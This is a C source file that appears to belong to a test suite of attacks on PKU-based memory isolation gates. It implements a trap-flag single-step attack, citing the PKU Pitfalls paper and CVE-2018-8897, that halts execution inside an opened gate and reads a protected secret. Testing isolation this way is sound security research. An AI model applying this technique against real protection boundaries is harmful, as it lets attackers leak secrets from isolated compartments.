/* Tries: to stop in the gate, when it has just opened, by the trap flag
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); CVE-2018-8897 (POP SS) for what
 *   single steps are good for
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN

/* Jumps there with these registers; what comes back comes back here, or not at all. */
static void LOCAL(jump)(uint64_t code, uint64_t rights, uint64_t others)
{
    register uint64_t r8 __asm__("r8") = others;
    __asm__ volatile(
        "mov %0, %%r11\n\tmov %1, %%rax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\tcall *%%r11"
        :
        : "r"(code), "r"(rights), "S"(others), "D"(others), "r"(r8)
        : "rax", "rcx", "rdx", "r11", "memory");
}

FOREIGN(run)
{
    if (at->gate_start)
        __asm__ volatile("pushf\n\torq $0x100, (%%rsp)\n\tpopf\n\tjmp *%0"
                         :
                         : "r"(at->gate_return));
    take(at, at->secret_global);
    return 0;
}

#endif
